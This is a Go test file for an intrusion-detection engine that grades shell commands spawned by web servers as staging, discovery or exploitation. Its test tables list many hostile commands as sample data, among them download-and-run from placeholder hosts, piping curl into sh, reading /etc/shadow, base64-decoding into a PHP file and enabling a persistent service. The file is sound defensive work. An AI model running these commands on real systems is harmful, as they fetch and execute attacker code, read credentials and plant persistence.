package detect

import (
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestRunsFetched: a command that runs what it could have fetched shows
// more than staging.
func TestRunsFetched(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins && rm -f p.tgz 2>&1", false},
		{"wget -q -O /var/www/html/data/rates.json http://192.0.2.7/rates.json", false},
		{"curl -s http://192.0.2.7/x -o /tmp/x; /tmp/x", true},
		{"curl -so /dev/shm/k http://192.0.2.7/k && nohup /dev/shm/k >/dev/null 2>&1 &", true},
		{"cd /tmp && wget http://192.0.2.7/kit.tgz && tar xzf kit.tgz && ./kit/run", true},
		{"cd /tmp; tar xf t.tar; cd t; sh install.sh", true},
		{"wget -qO /tmp/a.py http://192.0.2.7/a.py; python3 /tmp/a.py", true},
		{"wget -qO- http://192.0.2.7/x > /tmp/x.sh; . /tmp/x.sh", true},
		{"curl -o /tmp/x http://192.0.2.7/x && timeout 60 /tmp/x -p 4444", true},
		{"curl -o /tmp/x http://192.0.2.7/x && LD_PRELOAD=/tmp/x.so /usr/bin/id", false}, // judged by its own selections
		{"tar -xzf /tmp/ext.tar.gz -C /srv/kb/www/ext", false},
		{"sh -c 'echo ok'", false},
		{"python3 -c 'print(1)'", false},
		// quotes hold a program's own text: no command words in it
		{`sed -e 's/\r$//' '/tmp/phpKYkAqe' | awk -F';' 'NR > 1 && $3 ~ /^[0-9]+([.][0-9]+)?$/ { printf "%s,%s\n", $2, $3 }' | sort -t, -k1,1 > '/var/www/html/data/p.new'`, false},
		{"awk 'BEGIN { system(\"id\") }; { print }' /tmp/in.csv", false},
		// a shell's -c string is read as a command, groups and
		// substitutions too
		{"bash -c 'curl -so /tmp/x http://192.0.2.7/x; /tmp/x'", true},
		{"sh -c \"cd /tmp && ./kit\"", true},
		{"curl -so /tmp/x http://192.0.2.7/x && { /tmp/x; }", true},
		{"curl -so /tmp/x http://192.0.2.7/x && (cd /tmp; ./x)", true},
		{"echo $(/tmp/x)", true},
	} {
		if got := runsFetched(c.cmd); got != c.want {
			t.Errorf("runsFetched(%q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// TestStagingOnly: a web server's fetch or unpack, a command whose only
// sign is a temporary path, or discovery alone needs corroboration; the
// same with a sign of intent, or running what it fetched, does not.
func TestStagingOnly(t *testing.T) {
	for _, c := range []struct {
		cmd   string
		want  bool
		shows Shows    // when want: what the act shows alone
		argv  []string // the server's exec of a program itself, no shell (cmd unused)
	}{
		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins", true, "", nil},
		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true, "", nil},
		{"wget -q http://198.51.100.7/x -O /tmp/x", true, "", nil},
		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false, "", nil},
		{"cd /dev/shm && wget -q http://198.51.100.7/x && chmod 755 x", false, "", nil},
		// an install from the admin page: fetched, unpacked into the web
		// root, its modes set, the archive removed — staging only
		{"curl -fsS -o /tmp/p.zip http://127.0.0.1:8000/p.zip && unzip -o -q /tmp/p.zip -d /var/www/html/plugins && chmod -R 755 /var/www/html/plugins/p && rm -f /tmp/p.zip", true, "", nil},
		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false, "", nil},
		{"curl -s http://198.51.100.7/x | sh", false, "", nil},
		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false, "", nil},
		// a temp path alone shows nothing by itself: tempnam() gives every
		// application one (benign-news: convert, gs on temp files)
		{"ls /tmp/", true, "", nil},
		{"convert '/tmp/nrimgwGqaJO' -thumbnail 320x320 '/var/www/news/media/thumbs/a.jpg' 2>&1", true, "", nil},
		// who and where it runs, alone or with a temp path: discovery, as
		// a diagnostics page asks (benign-desk); with a search for a way
		// to root, or a secret read, it shows intent
		{"ls /tmp/; id", true, ShowsStaging, nil},
		{"id 2>&1", true, ShowsDiscovery, nil},
		{"uname -a; hostname", true, ShowsDiscovery, nil},
		{"id; sudo -n -l", false, "", nil},
		{"id; cat /etc/shadow", false, "", nil},
		{"curl -s http://198.51.100.7/x -o /tmp/x; id", true, ShowsStaging, nil},
		// decoding in a shell's command hides what the shell runs; a
		// decoder started with no shell hands its output back to the
		// program (a carrier's label decoded by proc_open,
		// benign-shop-courier)
		{"echo aWQK | base64 -d > /var/www/html/x.php", false, "", nil},
		{"", true, ShowsStaging, []string{"/usr/bin/base64", "-d"}},
		// a service enabled from the web side: persistence, intent
		{"systemctl --user enable --now agent.timer", false, "", nil},
	} {
		s := newSynth()
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		var got *Finding
		var ev *parser.Event
		if c.argv == nil {
			ev = s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd)
		} else {
			e.Observe(s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"), s.tree)
			ev = s.exec(201, 200, 33, "www-data", "/var/www", c.argv[0], c.argv...)
			c.cmd = strings.Join(c.argv, " ")
		}
		for _, f := range e.Observe(ev, s.tree) {
			if f.RuleID == "web-server-exploitation" {
				got = f
			}
		}
		if got == nil {
			t.Errorf("%q: no web-server-exploitation finding", c.cmd)
			continue
		}
		if got.NeedsCorroboration != c.want {
			t.Errorf("%q: NeedsCorroboration = %v, want %v", c.cmd, got.NeedsCorroboration, c.want)
		}
		want := c.shows
		if c.want && want == "" {
			want = ShowsStaging
		}
		if got.NeedsCorroboration == c.want && got.Shows != want {
			t.Errorf("%q: Shows = %q, want %q", c.cmd, got.Shows, want)
		}
	}
}

// TestIntentGradesEverySearch: a rule that grades intent must list every
// one of its susp_ searches, since an unlisted search that matched would
// show no intent and a match of it with a download would need
// corroboration it does not.
func TestIntentGradesEverySearch(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range e.Rules() {
		graded := false
		listed := map[string]bool{}
		for _, m := range r.meanings {
			graded = graded || m.intent != intentShown
			for _, s := range m.selections {
				listed[s] = true
			}
		}
		if !graded {
			continue
		}
		for name := range r.det.searches {
			if strings.HasPrefix(name, "susp_") && !listed[name] {
				t.Errorf("rule %s grades intent but lists no entry for %s", r.ID, name)
			}
		}
	}
}

// TestWebServerByTitle: a JVM started before the log shows no exec and
// names its threads in comm; its process title (cut at 128 bytes, before
// Tomcat's Bootstrap) still shows catalina.sh's first arguments.
func TestWebServerByTitle(t *testing.T) {
	for _, c := range []struct {
		title []string
		want  bool
	}{
		{[]string{"/usr/lib/jvm/default-java/bin/java", "-Djava.util.logging.config.file=/srv/stock/tomcat/conf/logging.properties", "-Djava.util.logging"}, true},
		{[]string{"/usr/bin/java", "-Djava.util.logging.config.file=/srv/x/conf/logging.properties", "-Djava.util.logging.manager=org.apache.juli.ClassLoaderLogManager"}, true},
		{[]string{"/usr/bin/java", "-jar", "/opt/kafka/libs/kafka.jar"}, false},
		{nil, false},
	} {
		p := &parser.Process{Exe: "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", Comm: "http-nio-127.0.", Title: c.title}
		if got := isWebServer(p); got != c.want {
			t.Errorf("isWebServer(title %q) = %v, want %v", c.title, got, c.want)
		}
	}
}

// TestDownloadIsStaging: the download rule grades a fetch as staging like
// the web-server rule does (an install from the admin page fetches
// archives too); its discarded-output probe stays a low probe.
func TestDownloadIsStaging(t *testing.T) {
	fs := execAs(t, 33, "/var/www", "/usr/bin/curl", "curl", "-fsS", "-o", "/tmp/p.zip", "http://127.0.0.1:8000/p.zip")
	f := findingOf(fs, "ingress-tool-download")
	if f == nil {
		t.Fatalf("no ingress-tool-download finding: %v", ids(fs))
	}
	if !f.NeedsCorroboration {
		t.Error("a download alone does not need corroboration")
	}
}

// TestRunsFetchedHostile: an argv is the intruder's to write; unbalanced
// substitutions and deep nesting are read in linear time (a megabyte of
// "$(" used to be searched again from each one) and find nothing.
func TestRunsFetchedHostile(t *testing.T) {
	for _, cmd := range []string{
		strings.Repeat("$(", 1<<19),
		strings.Repeat("`", 1<<20),
		strings.Repeat("$(echo ", 1<<16) + strings.Repeat(")", 1<<16),
		strings.Repeat("bash -c '", 1<<16),
	} {
		if runsFetched(cmd) {
			t.Errorf("runsFetched(%.20q…) = true", cmd)
		}
	}
}
